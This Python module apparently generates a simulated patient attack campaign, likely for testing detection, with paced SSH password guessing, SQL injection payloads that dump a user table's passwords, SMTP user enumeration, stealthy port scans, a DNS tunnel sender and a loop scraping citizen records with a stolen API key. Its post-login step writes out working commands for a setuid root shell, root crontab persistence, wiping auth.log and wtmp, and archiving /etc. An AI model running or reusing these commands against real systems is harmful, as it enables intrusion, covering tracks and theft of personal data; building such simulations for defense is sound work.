"""The same attacks by somebody with patience: a password a minute or less, one request where tools send hundreds, questions
of a tunnel far apart, a key used from its owner's own network and only for single records."""

import asyncio
import base64
import contextlib
import os
import smtplib
import socket
import struct
import sys
import time
import urllib.parse

import attacks_hosts as hosts
import names
import other_tools
from attacks_web import WEB
from campaign import NAMES, wordlist
from office import LOCAL_DNS, MAIL
from other_tools import ask, paced
from web_client import Browser, GATE

QUESTIONS = (
    "H00007'|H00007''|H00007' and '1'='1|H00007' and '1'='2|H00007' order by 3-- -|H00007' order by 4-- -"
    "|x' union select 1,2,3-- -|x' union select sql,2,3 from sqlite_master-- -"
    "|x' union select ten,matkhau,hoten from taikhoan limit 20-- -"
    "|x' union select ten,matkhau,hoten from taikhoan limit 20 offset 20-- -"
).split("|")


def guess_ssh(stage, step):
    user, _, word = stage.world.keeper
    words = wordlist(step.rng, 14, word)
    for tried in paced(step.seconds - 2, words[: words.index(word) + 1]):
        hosts.remote(stage, step, user, tried, "true", 6)


def enter(stage, step):
    """A shell that keeps root's rights, a task at the start of the host, lines taken out of a log, files packed."""
    user, _, word = stage.world.keeper
    for command in (
        "id; hostname; ip a; ps aux | head",
        "sudo cp /bin/bash /var/tmp/.b; sudo chmod 4755 /var/tmp/.b",
        "echo '@reboot /var/tmp/.k' | sudo crontab -u root -",
        "sudo sed -i '/kho/d' /var/log/auth.log; sudo sh -c ': > /var/log/wtmp'",
        "tar czf /tmp/.d.tgz /etc /srv 2>/dev/null; ls -l /tmp/.d.tgz",
    ):
        hosts.remote(stage, step, user, word, command)
        stage.clock.wait(stage.clock.now() + step.rng.uniform(60, 200))


def mail_users(stage, step):
    path = stage.file(step.name + ".txt", NAMES + [p[0] for p in stage.world.officials[:6]])
    stage.script(step, "quiet_tools", f"verify('{path}', {step.seconds - 3})")


def verify(path, seconds):
    with open(path) as text, smtplib.SMTP(MAIL, 25, "mx.example.net", timeout=4) as smtp:
        for person in paced(seconds, text.read().split()):
            print(smtp.verify(f"{person}@{names.DOMAIN}"))


def scan_ports(stage, step):
    """A port of three hosts at a time."""
    ports = step.rng.sample(range(1, 9000), 60) + [22, 80, 443, 3389, 445]
    step.rng.shuffle(ports)
    for port in ports:
        stage.tool(
            step.space, f"for h in 10 12 13; do hping3 -q -c 1 -S -p {port} 203.0.113.$h & done; wait", 1.2, step.name
        )


def probe_agencies(stage, step):
    other_tools.probe_agencies(stage, step, ("/quan-tri/", "/.git/HEAD"))


def by_hand(stage, step):
    """SQL typed by somebody who looks at each answer."""
    for question in QUESTIONS:
        ask(stage, step, ["/tra-cuu?ma=" + urllib.parse.quote(question)])
        stage.clock.wait(stage.clock.now() + step.rng.uniform(8, 25))


def scripts(stage, step):
    stage.tool(
        step.space,
        "nmap -Pn -n -p 80 --script http-enum,http-vuln-cve2017-5638,http-shellshock,http-config-backup,http-git "
        f"--script-args http.host={step.answer['target']} {WEB}",
        step.seconds - 0.5,
        step.name,
    )


def tunnel(stage, step):
    stage.script(step, "quiet_tools", f"talk('{LOCAL_DNS}', '{step.domain}', {step.seconds - 2})")


def talk(server, domain, seconds):
    """25 bytes a question, in TXT and CNAME in turn."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.3)
    end, number = time.time() + seconds, 0
    while time.time() < end:
        number += 1
        label = base64.b32encode(os.urandom(25)).decode().lower().strip("=")
        parts = f"{number:x}.{label}.{domain}".split(".")
        name = b"".join(bytes([len(part)]) + part.encode() for part in parts) + b"\0"
        head = struct.pack(">HHHHHH", number & 65535, 256, 1, 0, 0, 0)
        sock.sendto(head + name + struct.pack(">HH", 16 if number % 3 else 5, 1), (server, 53))
        with contextlib.suppress(OSError):
            sock.recv(600)
        time.sleep(0.12)


def drain(stage, step):
    call = f"{step.source} {step.key} {step.client} {step.seconds - 2} {step.agent}"
    stage.tool(
        "wan",
        f"PYTHONPATH={sys.path[0]} /usr/bin/python3 -m quiet_tools {call}",
        step.seconds - 0.5,
        step.name,
    )


async def records(source, key, client, seconds, agent):
    """One person after the other."""
    browser = Browser(source, agent, "lgsp", server=GATE, port=8080)
    end, number = time.time() + float(seconds), 34095100000
    while time.time() < end:
        await browser.ask(f"/lgsp/v1/cong-dan/0{number}", X_API_Key=key, X_Don_Vi=client.split("-")[0])
        number += 1
        await asyncio.sleep(0.01)


CHANGES = dict(
    other_tools.CHANGES,
    **{
        "guess-ssh": (guess_ssh, "ssh", 26, 90),
        "enter-ssh": (enter, "ssh", 16, 60),
        "spray-mail": (other_tools.spray_mail, "python smtplib", 24, 250),
        "mail-users": (mail_users, "python smtplib", 14, 30),
        "scan-ports": (scan_ports, "hping3", 40, 20),
        "probe-agencies": (probe_agencies, "curl", 18, 30),
        "sqlmap": (by_hand, "curl", 24, 8),
        "wapiti": (scripts, "nmap scripts", 20, 5),
        "tunnel": (tunnel, "own client", 40, 15),
        "drain": (drain, "own client", 18, 80),
    },
)

if __name__ == "__main__":
    with contextlib.suppress(OSError):
        asyncio.run(records(*sys.argv[1:]))
